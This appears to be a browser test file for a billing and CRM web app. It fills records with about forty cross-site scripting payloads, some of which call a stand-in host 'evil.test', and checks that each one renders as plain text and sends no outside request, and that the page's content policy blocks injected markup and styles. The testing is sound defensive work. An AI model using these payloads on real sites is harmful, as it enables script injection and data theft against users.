import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { invoices } from '@daybook/contracts/billing/invoices/invoices';
import { clients } from '@daybook/contracts/crm/clients/clients';
import { enquiries } from '@daybook/contracts/crm/enquiries/enquiries';
import { departments } from '@daybook/contracts/settings/departments/departments';
import { services } from '@daybook/contracts/settings/services/services';
import { managers } from '@daybook/contracts/people/staff';
import { session } from '@daybook/contracts/auth/session';
import { taskTalk } from '@daybook/contracts/tasks/tasks/task-talk';
import { tasks } from '@daybook/contracts/tasks/tasks/tasks';
import { issueInvoice, today } from '../installation/fill-installation.ts';
import { firstSource } from '../installation/first-source.ts';
import { makeMasters } from '../installation/masters.ts';
import { everyNth } from '../installation/nightly.ts';
import { openInstallation } from '../installation/open-installation.ts';
import type { Installation } from '../installation/open-installation.ts';
import { watchQuiet } from '../installation/quiet.ts';
import { show, siteScreens } from '../installation/site-screens.ts';

let installation: Installation;
before(async () => {
  installation = await openInstallation();
});
after(() => installation.close());

/** If anything executes one of these payloads, it calls `caught` or sends a request to another address. */
const payloads = [
  '<script>caught(1)</script>',
  '"><script src=//evil.test/x.js></script>',
  '<img src=x onerror=caught(1)>',
  '<img src=//evil.test/pixel.png>',
  '<svg onload=caught(1)>',
  '<svg><script>caught(1)</script></svg>',
  '<iframe srcdoc="<script>parent.caught(1)</script>">',
  '<iframe src=javascript:parent.caught(1)>',
  '<a href="javascript:caught(1)">x</a>',
  '<body onload=caught(1)>',
  '<details open ontoggle=caught(1)>',
  '<video><source onerror=caught(1)>',
  '<style>@import "//evil.test/x.css"</style>',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<base href=//evil.test/>',
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  '<form action=//evil.test><button autofocus onfocus=caught(1)>',
  "'-caught(1)-'",
  '";caught(1)//',
  '`${caught(1)}`',
  '{{constructor.constructor("caught(1)")()}}',
  '${caught(1)}',
  '#{caught(1)}',
  'javascript:caught(1)',
  'data:text/html,<script>caught(1)</script>',
  '&lt;script&gt;caught(1)&lt;/script&gt;',
  '\u003cscript\u003ecaught(1)\u003c/script\u003e',
  '<scr<script>ipt>caught(1)</scr</script>ipt>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=caught(1)>',
  '<template><script>caught(1)</script></template>',
  '<object data=//evil.test/x.swf>',
  '<embed src=//evil.test/x.svg>',
  '<marquee onstart=caught(1)>',
  '<input autofocus onfocus=caught(1)>',
  '<select onfocus=caught(1) autofocus>',
  '<textarea></textarea><script>caught(1)</script>',
  ']]><script>caught(1)</script>',
  '--><script>caught(1)</script>',
  '*/caught(1)/*',
  '$t(caught) $t(nav.label)',
];

/** Uses every payload as the name of many kinds of record, at most twenty of each kind, so that the first page shows them all. */
async function fill(): Promise<string[]> {
  const { api } = installation;
  const masters = await makeMasters(api);
  const { entityId, taxCodeId } = masters;
  const { id: me } = await api(session.me, {});
  const opened: string[] = [];
  for (const [index, name] of payloads.entries()) {
    const client = await api(clients.create, {
      name,
      legalName: name,
      sortName: name,
      kind: 'company',
      crmId: me,
      defaultEntityId: entityId,
      taxTreatment: 'unregistered',
      tags: [name.slice(0, 20)],
      contacts: [{ name, email: `a${index}@evil.test` }],
      addresses: [{ kind: 'billing', country: 'FR', line1: name, line2: name, city: name }],
    });
    if (index % 2 === 0) continue;
    const task = await api(tasks.create, {
      title: name,
      clientId: client.id,
      dueOn: '2030-12-31',
      checklist: [{ title: name, mandatory: false }],
    });
    await api(taskTalk.addNote, { id: task.id, body: name });
    await api(enquiries.create, {
      enquiryDate: today,
      nextActionOn: today,
      name,
      company: name,
      email: `b${index}@evil.test`,
      sourceId: await firstSource(api),
    });
    if (index % 8 !== 1) continue;
    await api(services.create, { name, taxCodeId });
    const department = await api(departments.create, { name });
    const { member } = await api(managers.create, {
      name,
      email: `m${index}@evil.test`,
      scope: 'own',
      locale: 'en',
      departmentIds: [department.id],
    });
    const draft = await api(invoices.create, {
      entityId,
      clientId: client.id,
      issueDate: today,
      dueDate: '2030-12-31',
      currency: 'INR',
      docLocale: 'en',
      poNo: name.slice(0, 30),
      terms: name,
      notes: name,
      lines: [{ description: name, qty: '1', unitPrice: '500', taxCodeId, sacHsn: '998221' }],
    });
    const issued = await issueInvoice(api, masters, client.id, '100');
    opened.push(
      `view-client/${client.id}`,
      `clients/edit/${client.id}`,
      `tasks/view-task/${task.id}`,
      `tasks/edit/${task.id}`,
      `invoices/edit/${draft.id}`,
      `invoices/view-invoice/${draft.id}`,
      `invoices/view-invoice/${issued.id}`,
      `managers/permissions/${member.id}`,
      `reports/client_ledgers?clientId=${client.id}`,
    );
  }
  return opened;
}

describe('names that contain scripts', () => {
  it('are shown as plain text on every list and record, and send no request to another address', async () => {
    const records = await fill();
    const { page } = await installation.visit();
    const caught: string[] = [];
    await page.exposeFunction('caught', () => caught.push(page.url()));
    page.on('dialog', (dialog) => {
      caught.push(dialog.message());
      void dialog.dismiss();
    });
    page.on('request', (request) => {
      if (!request.url().startsWith(installation.url) && !/^(data|blob):/.test(request.url()))
        caught.push(request.url());
    });
    const lists = siteScreens()
      .map(({ path }) => path)
      .filter((path) => !path.includes(':') && !path.endsWith('/add'));
    const quiet = watchQuiet(page);
    await page.goto(`${installation.url}/app`);
    for (const path of ['dashboards/default', ...everyNth([...lists, ...records], 3)])
      await show(page, `/app/${path}`, quiet);
    assert.deepEqual(caught, []);
    await page.goto(`${installation.url}/app/clients?q=onerror`);
    await page.getByText('<img src=x onerror=caught(1)>', { exact: true }).first().waitFor();
  });
});

describe('a page', () => {
  it('takes no text as code, and no styles but those of our files', async () => {
    const { page, context } = await installation.visit();
    await page.goto(`${installation.url}/app/clients`);
    await page.getByRole('heading', { level: 1 }).waitFor();
    const refused = await page.evaluate(() => {
      const tries: Record<string, () => unknown> = {
        text: () => (document.createElement('div').innerHTML = 'x'),
        markup: () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
        elsewhere: () => (document.createElement('script').src = 'https://example.com/x.js'),
        policy: () =>
          (
            window as never as { trustedTypes: { createPolicy: (name: string, rules: object) => void } }
          ).trustedTypes //
            .createPolicy('mine', {}),
        own: () => (document.createElement('script').src = '/assets/host/x.js'),
      };
      return Object.entries(tries).flatMap(([name, attempt]) => {
        try {
          attempt();
          return [];
        } catch {
          return name;
        }
      });
    });
    assert.deepEqual(refused, ['text', 'markup', 'elsewhere', 'policy']);
    const sheet = await page.evaluate(() => {
      const style = document.createElement('style');
      style.textContent = 'body { color: red }';
      document.head.append(style);
      return style.sheet;
    });
    assert.equal(sheet, null);
    await context.close();
  });

  it('adds no style element of its own, and locks its scroll bar behind a dialog', async () => {
    const { page, complaints, context } = await installation.visit();
    await page.goto(`${installation.url}/app/clients`);
    await page.getByRole('heading', { level: 1 }).waitFor();
    const lock = () => page.evaluate(() => getComputedStyle(document.body).overflowY);
    assert.equal(await lock(), 'visible');
    await page.keyboard.press('Control+k');
    await page.getByRole('dialog').waitFor();
    assert.equal(await lock(), 'hidden');
    await page.keyboard.press('Escape');
    await page.getByRole('dialog').waitFor({ state: 'hidden' });
    assert.equal(await lock(), 'visible');
    assert.equal(await page.locator('style').count(), 0);
    assert.deepEqual(complaints, []);
    await context.close();
  });
});
